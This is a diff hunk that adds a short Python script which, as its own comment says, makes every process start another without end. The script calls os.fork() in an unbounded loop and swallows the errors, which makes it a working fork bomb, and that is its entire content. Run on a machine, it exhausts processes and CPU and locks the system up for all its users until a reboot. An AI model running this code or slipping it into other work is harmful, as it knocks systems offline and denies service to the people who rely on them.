@@ -1,0 +1,7 @@
+# Each process starts another, without end.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
